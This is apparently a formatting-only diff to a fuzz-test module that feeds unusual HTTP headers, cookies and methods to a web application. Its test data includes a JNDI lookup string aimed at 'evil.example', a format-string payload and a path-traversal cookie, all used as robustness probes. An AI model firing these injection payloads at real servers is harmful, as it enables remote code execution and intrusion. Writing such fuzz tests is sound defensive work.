@@ -31,9 +31,11 @@ ODD: list[tuple[str, list[str | bytes]]] = [
     ("Sec-Fetch-Site", ["cross-site", "x"]),
     ("User-Agent", ["", "x" * 5000, b"\xff", "${jndi:ldap://evil.example/a}", "%s%s%n"]),
     ("Cookie", [
-        "sessionid=x; csrftoken=y", "sessionid=" + "a" * 3000, "sessionid=\x01", b"sessionid=\xff\xfe", "=;=;==;;", "$Version=1; a=b",
+        "sessionid=x; csrftoken=y", "sessionid=" + "a" * 3000, "sessionid=\x01", b"sessionid=\xff\xfe", "=;=;==;;",
+         "$Version=1; a=b",
         "sessionid=a; sessionid=b", "messages=x:y:z", "messages=" + "W" * 3000, "language=../..", "django_language=xx", 'a="b; c',
-        "__Host-session=x; __Host-csrf=y; __Host-messages=[[1]]:x:y; __Host-language=zz", "; ".join(f"c{n}=1" for n in range(300)),
+        "__Host-session=x; __Host-csrf=y; __Host-messages=[[1]]:x:y; __Host-language=zz",
+        "; ".join(f"c{n}=1" for n in range(300)),
     ]),
 ]  # fmt: skip
 
@@ -51,7 +53,8 @@ def odd(roll: random.Random, headers: Headers) -> Headers:
 
 
 METHODS = [
-    "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "PURGE", "get", "G" * 300, "X-\x7f",
+    "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "PURGE", "get", "G" * 300,
+    "X-\x7f",
 ]  # fmt: skip
 
 
